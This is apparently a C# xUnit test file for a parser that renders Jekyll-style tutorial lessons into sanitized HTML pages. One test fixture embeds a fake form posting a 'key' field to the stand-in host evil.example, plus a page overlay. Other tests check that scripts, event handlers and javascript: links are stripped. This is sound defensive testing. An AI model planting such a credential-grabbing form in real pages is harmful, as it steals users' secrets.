using LockLab.Contracts;
using LockLab.Server.Lessons;

namespace LockLab.Tests.Lessons;

/// <summary>The loader on fixture lessons written in the tutorial series' Jekyll format.</summary>
public class LessonParserTests
{
    private static readonly LessonParser Parser = new(new LessonHtml(), Scenarios.All.ToHashSet());

    private static string Fixture(string name) => File.ReadAllText(Path.Combine(AppContext.BaseDirectory, "Lessons", "Fixtures", name));

    private static LessonDocument ParseFixture() =>
        Parser.Parse("jekyll-lesson", Fixture("jekyll-lesson.md"), "jekyll-lesson.md",
            target => target.EndsWith("other-lesson.md", StringComparison.Ordinal) ? "/lessons/other-lesson" : null);

    [Fact]
    public void Front_matter_is_read_leniently_and_unknown_keys_are_kept()
    {
        var lesson = ParseFixture();

        Assert.Equal("测试课程 Fixture", lesson.Summary.Title);
        Assert.Equal("这是一个测试课程, 描述 跨越了两行", lesson.Summary.Description);
        Assert.Equal("3", lesson.Summary.Chapter);
        Assert.Equal("2019-02-07", lesson.Summary.Date);
        Assert.Null(lesson.Summary.Author);
        Assert.Equal("XABCDEF123", lesson.Metadata["youku_id"]);
        Assert.Equal("1234&page=3", lesson.Metadata["bilibili_id"]);
        Assert.Null(lesson.Summary.Error);
    }

    [Fact]
    public void Pages_split_at_heading_markers_with_an_intro_page_first()
    {
        var lesson = ParseFixture();

        Assert.Equal(["测试课程 Fixture", "第一部分", "Second part", "Part 3"], lesson.Pages.Select(p => p.Title));
        Assert.Equal([1, 2, 3, 4], lesson.Pages.Select(p => p.Number));
        Assert.Equal("第一部分", lesson.Pages[1].Anchor);
        Assert.Equal("second_part".Replace('_', '-'), lesson.Pages[2].Anchor);
        Assert.Contains("开场白", lesson.Pages[0].Html);
        // Three markers, two headings: a warning, not a crash.
        Assert.Contains(lesson.Summary.Warnings, w => w.Contains("3 heading markers") && w.Contains("only 2"));
    }

    [Fact]
    public void Kramdown_attributes_apply_to_the_link_and_never_show_as_text()
    {
        var intro = ParseFixture().Pages[0].Html;

        Assert.Contains("""<a href="https://example.org/code.py" target="_blank" rel="noopener noreferrer">示例代码</a>""", intro);
        Assert.DoesNotContain("{:", intro);
        Assert.DoesNotContain("target=&quot;", intro);
    }

    [Fact]
    public void Liquid_links_resolve_to_the_lab_when_the_target_is_in_the_library_and_are_plain_text_otherwise()
    {
        var html = ParseFixture().Pages[1].Html;

        Assert.Contains("""<a href="/lessons/other-lesson">the other lesson</a>""", html);
        Assert.Contains("a missing one", html);
        Assert.DoesNotContain("missing.md", html);
        Assert.DoesNotContain("{%", html);
    }

    [Fact]
    public void Markdown_constructs_render()
    {
        var html = ParseFixture().Pages[1].Html;

        Assert.Contains("<table>", html);
        Assert.Contains("<blockquote>", html);
        Assert.Matches(@"<ul>\s*<li>outer\s*<ul>\s*<li>inner <strong>bold</strong> and <code>code</code>", html);
        Assert.Contains("""<code class="language-python">""", html);
        Assert.Contains("""<span class="keyword">import</span>""", html); // highlighted
        Assert.Contains("plain output", html); // a fence without a language
        Assert.Equal(2, html.Split("class=\"code-copy\"").Length - 1); // a copy button per code block
    }

    [Fact]
    public void Raw_html_never_runs()
    {
        var html = ParseFixture().Pages[1].Html;
        var document = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(html);

        Assert.Empty(document.QuerySelectorAll("script"));
        Assert.DoesNotContain(document.All.SelectMany(e => e.Attributes), a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase));
        Assert.DoesNotContain(document.QuerySelectorAll("a[href]"),
            a => a.GetAttribute("href")!.Contains("javascript", StringComparison.OrdinalIgnoreCase));
        Assert.NotNull(document.QuerySelector("a[href='https://example.org']")); // the link itself survives, without the handler
    }

    [Fact]
    public void Experiments_are_inferred_from_the_code_of_each_section()
    {
        var lesson = ParseFixture();

        Assert.Null(lesson.Pages[0].Experiment);
        Assert.Equal(Scenarios.NoLock, lesson.Pages[1].Experiment?.Scenario); // processes over a shared value, no lock
        Assert.Equal(Scenarios.Lock, lesson.Pages[2].Experiment?.Scenario);   // the same with mp.Lock()
        Assert.Null(lesson.Pages[3].Experiment);
    }

    [Fact]
    public void Declared_experiments_win_and_bad_entries_are_warnings()
    {
        const string text = """
            ---
            title: Declared
            post-headings: [One, Two]
            lab:
              1: { scenario: lost-update, gapMs: 30, amounts: [2, 5] }
              2: spinlock
              intro: lock
              seven: lock
            ---
            Intro.
            {% include assign-heading.html %}
            One.
            {% include assign-heading.html %}
            Two, whose code would say no-lock: mp.Process(target=f) v.value
            """;
        var lesson = Parser.Parse("declared", text, "declared.md", _ => null);

        Assert.Equal(Scenarios.Lock, lesson.Pages[0].Experiment?.Scenario);
        Assert.Equal(Scenarios.LostUpdate, lesson.Pages[1].Experiment?.Scenario);
        Assert.Equal(30, lesson.Pages[1].Experiment?.GapMs);
        Assert.Equal([2, 5], lesson.Pages[1].Experiment!.Amounts!);
        Assert.Null(lesson.Pages[2].Experiment); // declared lessons are not guessed at
        Assert.Contains(lesson.Summary.Warnings, w => w.Contains("spinlock"));
        Assert.Contains(lesson.Summary.Warnings, w => w.Contains("'seven'"));
    }

    [Theory]
    [InlineData("lang: en", "Part 2")]
    [InlineData("lang: zh-CN", "第 2 部分")]
    [InlineData("title: 进程与锁\ndescription: 两个进程同时修改一个共享的值，会发生什么？", "第 2 部分")] // read off its text
    [InlineData("title: Processes and locks", "Part 2")]
    public void A_section_without_a_heading_is_titled_in_the_lessons_own_language(string frontMatter, string expected)
    {
        var text = $"---\n{frontMatter}\npost-headings:\n  - One\n---\nIntro\n"
            + "{% include assign-heading.html %}\nFirst\n{% include assign-heading.html %}\nSecond\n";

        var lesson = Parser.Parse("parts", text, "parts.md", _ => null);

        Assert.Equal(expected, lesson.Pages[^1].Title);
    }

    [Theory]
    [InlineData("---\ntitle: [unclosed\n---\nBody", "not valid YAML")]
    [InlineData("---\ntitle: Never closed\nBody", "never closed")]
    [InlineData("---\n- a list\n- not a map\n---\nBody", "mapping")]
    public void Broken_front_matter_is_a_clear_error(string text, string message)
    {
        var error = Assert.Throws<LessonFormatException>(() => Parser.Parse("broken", text, "broken.md", _ => null));
        Assert.Contains(message, error.Message);
    }

    [Fact]
    public void Liquid_highlight_blocks_comments_and_trimmed_tags_are_understood()
    {
        const string text = """
            ---
            title: Liquid
            post-headings: [After the code]
            ---
            {% highlight python %}
            print("inside")
            ```
            still inside
            {% endhighlight %}
            {% comment %}
            a note for the author only
            {% endcomment %}
            Visible {% comment %}hidden{% endcomment %}text, and [a link]({% link other.md -%}).
            {% include assign-heading.html %}
            Second page.
            """;
        var lesson = Parser.Parse("liquid", text, "liquid.md", t => t == "other.md" ? "/lessons/other" : null);

        Assert.Equal(["Liquid", "After the code"], lesson.Pages.Select(p => p.Title));
        var intro = lesson.Pages[0].Html;
        Assert.Contains("still inside", intro);
        Assert.Equal(1, intro.Split("<pre ").Length - 1); // one code block, closed by endhighlight
        Assert.DoesNotContain("for the author", intro);
        Assert.DoesNotContain("hidden", intro);
        Assert.Contains("Visible text", intro);
        Assert.Contains("""<a href="/lessons/other">a link</a>""", intro);
    }

    [Fact]
    public void A_lesson_cannot_fake_a_form_or_overlay_the_page()
    {
        const string text = """
            ---
            title: Sneaky
            ---
            <form action="https://evil.example/steal"><input name="key"><button>Send key</button></form>

            <div style="position:fixed;top:0;left:0;z-index:9999" id="live-panel">overlay</div>
            """;
        var html = Parser.Parse("sneaky", text, "sneaky.md", _ => null).Pages[0].Html;
        var document = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(html);

        Assert.Empty(document.QuerySelectorAll("form, input, button:not(.code-copy)"));
        Assert.DoesNotContain(document.All, e => e.HasAttribute("style") || e.HasAttribute("id"));
    }

    [Fact]
    public void A_plain_markdown_file_splits_at_its_level_two_headings()
    {
        const string text = """
            ---
            title: Plain
            ---
            Intro text.

            ## First

            ```python
            ## not a heading inside code
            ```

            ## Second
            Done.
            """;
        var lesson = Parser.Parse("plain", text, "plain.md", _ => null);

        Assert.Equal(["Plain", "First", "Second"], lesson.Pages.Select(p => p.Title));
        Assert.Contains("## not a heading inside code", lesson.Pages[1].Html);
        Assert.Empty(lesson.Summary.Warnings);
    }

    [Fact]
    public void A_file_without_front_matter_or_title_still_loads_with_a_warning()
    {
        var lesson = Parser.Parse("bare", "Just text.", "bare-file.md", _ => null);

        Assert.Equal("bare-file", lesson.Summary.Title);
        Assert.Single(lesson.Pages);
        Assert.Contains(lesson.Summary.Warnings, w => w.Contains("no 'title'"));
    }
}
